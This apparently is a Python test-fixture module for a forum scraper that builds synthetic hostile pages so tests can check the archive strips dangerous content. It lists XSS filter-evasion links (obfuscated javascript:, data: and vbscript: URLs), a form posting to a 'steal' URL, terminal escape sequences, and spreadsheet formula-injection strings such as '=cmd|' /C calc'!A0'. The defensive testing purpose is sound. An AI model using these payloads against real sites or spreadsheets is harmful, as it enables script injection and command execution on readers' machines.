"""Hostile pages for the security tests (``SiteConfig(hostile_content=True)``): SYNTHETIC,
not seen on the live site. Each reproduces a known way a page attacks its reader:

- ``hostile_markup``: links a browser runs as scripts although they do not start with
  ``javascript:`` (a control character or a tab before or inside the scheme, as the WHATWG
  URL parser allows), ``data:`` and ``vbscript:`` links, ``<img src="javascript:...">``
  (forms from OWASP's XSS filter evasion cheat sheet), a ``<form>`` and an ``<object>`` around
  answer text, and ESC/OSC/CSI bytes (raw and as ``&#27;``) that rewrite a terminal's title or
  screen;
- ``formula_title``: a title, question and answer that a spreadsheet runs as formulas
  (``=HYPERLINK``, ``=cmd|``, ``@``: OWASP's CSV Injection page);
- ``windows_1252``: a post page honestly served as windows-1252 (in the HTTP header, with no
  meta charset), whose text is right only when decoded with the declared charset.

The ground truth is what a careful archive stores: the words of every element, no control
character, no link but the safe ones.
"""

from __future__ import annotations

from msqa_scraper.replica.body import Features, PostBody, signature
from msqa_scraper.replica.nodes import Anchor, Block, Para, Text
from msqa_scraper.replica.people import EXPERTS

HOSTILE_KINDS = ("hostile_markup", "formula_title", "windows_1252")

FORMULA_TITLE = '=HYPERLINK("http://example.org/results?id="&A1,"See your MRI results")'
WINDOWS_1252 = "windows-1252"
WINDOWS_1252_TEXT = "Sjögren’s café"

# The URLs a stored answer must never hold (checked by tests/test_hostile_content.py).
DANGEROUS_HREFS = (
    "&#1;javascript:alert(document.domain)",
    "java&#9;script:alert(2)",
    " \x01javascript:alert(3)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==",
    "vbscript:msgbox(5)",
)
SAFE_LINK = "https://example.org/ms/safe-browsing"


def _p(*nodes: Text | Anchor) -> Para:
    return Para(tuple(nodes))


def _link(words: str, href: str) -> Text:
    """Words in a link whose URL must be dropped: the words stay, the link does not."""
    return Text(words, f'<a href="{href}">{words}</a>')


def hostile_body(kind: str, features: Features, experts: tuple[int, ...]) -> PostBody:
    question: Para
    answer: tuple[Block, ...]
    if kind == "hostile_markup":
        question = _p(
            Text("My son says a link on a web page can take over a computer. Can a page about"),
            Text(" MS do that? "),
            # OSC 0 sets the terminal title; BEL ends it. Stored text keeps only the words.
            Text("]0;Virtual MS Center", "\x1b]0;Virtual MS Center\x07"),
        )
        answer = (
            _p(
                Text("Only if the page is written to attack its readers. Links such as "),
                _link("this one", DANGEROUS_HREFS[0]),
                Text(", "),
                _link("that one", DANGEROUS_HREFS[1]),
                Text(", "),
                _link("a third", DANGEROUS_HREFS[2]),
                Text(", "),
                _link("a data link", DANGEROUS_HREFS[3]),
                Text(" and "),
                _link("a vbscript link", DANGEROUS_HREFS[4]),
                Text(" run a program instead of opening a page."),
                Text("", '<img src="javascript:alert(6)" alt="">'),
            ),
            _p(
                Text("Before the form "),
                Text(
                    "the words inside the form",
                    '<form action="http://example.org/steal" method="post">'
                    "the words inside the form</form>",
                ),
                Text(" and the words after it all belong to the answer."),
            ),
            _p(
                Text("An old plugin box "),
                Text(
                    "keeps its fallback words",
                    '<object data="x.swf">keeps its fallback words</object>',
                ),
                Text(" too."),
            ),
            _p(
                Text("Colour codes "),
                Text("[31mred[0m", "\x1b[31mred\x1b[0m"),
                Text(" and screen codes "),
                Text("[2J", "&#27;[2J"),
                Text(" are stripped. Text such as <svg onload=print()> stays text."),
                Text(" Read more about "),
                Anchor(SAFE_LINK, (Text("safe browsing"),)),
                Text("."),
            ),
        )
    elif kind == "formula_title":
        question = _p(
            Text("=cmd|' /C calc'!A0 appeared in my patient portal instead of my name. Is my"),
            Text(" record safe?"),
        )
        answer = (
            _p(
                Text("@SUM(1+1) and =HYPERLINK are what a spreadsheet reads as formulas. Your"),
                Text(" record is safe; the portal only showed text a program forgot to escape."),
            ),
            _p(Text("+1 to asking the clinic to correct it.")),
        )
    elif kind == "windows_1252":
        question = _p(
            Text("I have dry eyes and a dry mouth as well as MS. Could it be Sjögren’s — and"),
            Text(" does it change my treatment?"),
        )
        answer = (
            _p(
                Text("It can be both. Sjögren’s syndrome is more common in people with MS, and it"),
                Text(" can look like MS on an MRI. A blood test and an eye test tell them apart."),
            ),
            _p(
                Text(f"Our patients meet at the {WINDOWS_1252_TEXT}, a monthly support group:"),
                Text(" bring your questions — and your neurologist’s notes."),
            ),
        )
    else:
        raise KeyError(kind)
    lines, signed = signature(tuple(EXPERTS[i] for i in experts), "lines", False)
    return PostBody(question, answer, lines, signed, features)


_META_CHARSET = '<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />'


def encode_page(markup: str) -> bytes:
    """The windows-1252 page's bytes. Its charset is declared only in the HTTP header, as many
    servers do (Apache's AddDefaultCharset): only a reader that honours the header gets the
    text right. Characters windows-1252 lacks become character references."""
    assert _META_CHARSET in markup
    return markup.replace(_META_CHARSET, "").encode("cp1252", "xmlcharrefreplace")
